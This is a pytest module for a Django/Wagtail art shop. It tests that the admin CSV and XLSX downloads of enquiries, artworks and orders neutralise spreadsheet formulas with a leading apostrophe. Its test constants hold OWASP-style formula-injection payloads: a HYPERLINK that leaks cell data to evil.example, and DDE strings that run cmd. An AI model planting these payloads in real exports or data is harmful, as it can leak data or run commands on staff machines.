"""Admin downloads (CSV and XLSX) never hand the team a live formula.

Each export is downloaded through the admin as a superuser, with records holding the classic
payloads (OWASP's CSV injection examples); each such cell must come out with a leading
apostrophe, and ordinary text and numbers exactly as they were. A last test walks the URLconf
so that a new export that forgets ``core.exports.SafeSpreadsheetExportMixin`` fails here.
"""

import csv
import inspect
import io
from decimal import Decimal

import pytest
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Site
from wagtail_modeladmin.options import ModelAdmin

from artists.factories import ArtistPageFactory
from artworks.factories import ArtworkFactory
from artworks.models import Artwork, ArtworkInquiry
from core.exports import SafeSpreadsheetExportMixin, spreadsheet_safe
from shop.cart import CartLine
from shop.checkout import start_checkout
from shop.models import Order
from shop.offers import offer_for

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
CALC = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"


def neutralised(value: str) -> str:
    return "'" + value


def download(client, url: str, export_format: str, **params) -> list[dict]:
    """The rows of an admin export, as {heading: value}; an XLSX must hold no formula cell."""
    response = client.get(url, {"export": export_format, **params})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        assert response["Content-Type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(body)).active
    cells = list(sheet.iter_rows())
    assert not [cell.coordinate for row in cells for cell in row if cell.data_type == "f"]
    headings = [cell.value for cell in cells[0]]
    return [dict(zip(headings, (cell.value for cell in row), strict=True)) for row in cells[1:]]


def test_spreadsheet_safe_neutralises_text_that_could_start_a_formula():
    for payload in (HYPERLINK, CALC, AT_SUM, MINUS, TAB, RETURN, "\x00=1+1", "=", "-"):
        assert spreadsheet_safe(payload) == "'" + payload
    for ordinary in ("Ana Ruiz", "ana@example.com", "", " =1+1", "2+3", "'=already quoted"):
        assert spreadsheet_safe(ordinary) == ordinary
    for not_text in (Decimal("-2.50"), -3, None, True):
        assert spreadsheet_safe(not_text) == not_text


# --- enquiries: written by the public --------------------------------------------------------


@pytest.fixture
def enquiries():
    artwork = ArtworkFactory(title=AT_SUM)
    hostile = ArtworkInquiry.objects.create(
        artwork=artwork, name=CALC, email="mallory@example.com", phone=MINUS, message=HYPERLINK
    )
    tabbed = ArtworkInquiry.objects.create(
        artwork=artwork, name=RETURN, email="eve@example.com", message=TAB
    )
    ordinary = ArtworkInquiry.objects.create(
        artwork=ArtworkFactory(title="Quiet Meridian"),
        name="Ana Ruiz",
        email="ana@example.com",
        phone="01632 960123",
        message="Is it still available?",
    )
    return hostile, tabbed, ordinary


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_enquiries_export_neutralises_formulas(admin_client, enquiries, export_format):
    hostile_enquiry = enquiries[0]
    rows = download(admin_client, reverse("artworkinquiry:index"), export_format)
    by_email = {row["Email"]: row for row in rows}
    hostile = by_email["mallory@example.com"]
    assert hostile["Name"] == neutralised(CALC)
    assert hostile["Phone"] == neutralised(MINUS)
    assert hostile["Message"] == neutralised(HYPERLINK)
    assert hostile["Artwork"] == neutralised(str(hostile_enquiry.artwork))  # "@SUM… (Artist)"
    tabbed = by_email["eve@example.com"]
    # XML reads a lone carriage return back as a line feed: the apostrophe is what matters.
    assert tabbed["Name"] in (neutralised(RETURN), neutralised("\n=1+1"))
    assert tabbed["Message"] == neutralised(TAB)
    ordinary = by_email["ana@example.com"]
    assert ordinary["Name"] == "Ana Ruiz"
    assert ordinary["Phone"] == "01632 960123"
    assert ordinary["Message"] == "Is it still available?"
    assert ordinary["Artwork"] == str(enquiries[2].artwork)


# --- artworks: written by editors and curators -----------------------------------------------


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_artworks_export_neutralises_formulas(admin_client, export_format):
    artist = ArtistPageFactory(title=CALC)
    ArtworkFactory(artist=artist, title=HYPERLINK, materials=MINUS, price=Decimal("2400.00"))
    ArtworkFactory(artist=artist, title="Estuary at Dusk", materials="Oil on linen")
    url = reverse(Artwork.snippet_viewset.get_url_name("list"))
    rows = download(admin_client, url, export_format, artist=artist.pk)
    by_slug = {row["Slug"]: row for row in rows}
    assert len(by_slug) == 2
    hostile = next(row for row in rows if row["Title"] != "Estuary at Dusk")
    assert hostile["Title"] == neutralised(HYPERLINK)
    assert hostile["Materials"] == neutralised(MINUS)
    assert hostile["Artist"] == neutralised(CALC)
    # Numbers stay numbers: a price is written as it is (a number cell in XLSX).
    price = hostile["Price"]
    assert price == ("2400.00" if export_format == "csv" else 2400)
    ordinary = next(row for row in rows if row["Title"] == "Estuary at Dusk")
    assert ordinary["Materials"] == "Oil on linen"


# --- orders: customers' emails, staff's tracking details -------------------------------------


@pytest.fixture
def hostile_order():
    artwork = ArtworkFactory(artist__title=AT_SUM, price=Decimal("1800.00"))
    order = start_checkout(
        lines=[CartLine(artwork, 1, offer_for(artwork, fresh=True))],
        email="=HYPERLINK(1)@example.com",
        country="GB",
        user=None,
        site=Site.objects.get(is_default_site=True),
        absolute_url=lambda path: f"http://testserver{path}",
    )
    Order.objects.filter(pk=order.pk).update(carrier=CALC, tracking_number=MINUS, last_error=TAB)
    return order


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_orders_export_neutralises_formulas(admin_client, hostile_order, export_format):
    rows = download(admin_client, "/admin/shop/order/", export_format, q=hostile_order.number)
    (row,) = rows
    assert row["Number"] == hostile_order.number
    assert row["Currency"] == "GBP"
    assert row["Email"] == neutralised("=HYPERLINK(1)@example.com")
    assert row["Artists"] == neutralised(AT_SUM)
    assert row["Carrier"] == neutralised(CALC)
    assert row["Tracking Number"] == neutralised(MINUS)
    assert row["Last Error"] == neutralised(TAB)
    total = Decimal(str(row["Total"]))
    assert total == hostile_order.total  # a number, not text with an apostrophe


# --- no export left out ----------------------------------------------------------------------

# Wagtail's own reports export editors' data (page titles, user names, redirect paths) through
# Wagtail's views, which this project does not replace. Listed so that a new one is noticed.
WAGTAIL_OWN_EXPORTS = {
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:aging_pages",
    "wagtailredirects:index",
}


def _patterns(resolver, namespace=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _patterns(pattern, inner)
        elif pattern.name:
            yield f"{namespace}{pattern.name}", pattern.callback


def admin_exports() -> dict[str, type]:
    """Every URL whose view offers a download: {URL name: view class}."""
    exports = {}
    for name, callback in _patterns(get_resolver()):
        owner = getattr(inspect.unwrap(callback), "__self__", None)
        if isinstance(owner, ModelAdmin):  # wagtail-modeladmin: a bound ModelAdmin.index_view
            if callback.__name__ == "index_view" and owner.list_export:
                exports[name] = owner.index_view_class
            continue
        view_class = getattr(callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        initkwargs = getattr(callback, "view_initkwargs", {})
        if initkwargs.get("list_export", view_class.list_export):
            exports[name] = view_class
    return exports


def test_every_admin_export_is_safe():
    exports = admin_exports()
    assert {
        "shop_order_modeladmin_index",
        "wagtailsnippets_artworks_artwork:list",
        "artworkinquiry:index",
    } <= set(exports)
    unsafe = []
    for name, view in sorted(exports.items()):
        if name.removesuffix("_results") in WAGTAIL_OWN_EXPORTS:
            assert view.__module__.startswith("wagtail."), name
        elif not issubclass(view, SafeSpreadsheetExportMixin):
            unsafe.append(name)
    assert unsafe == []
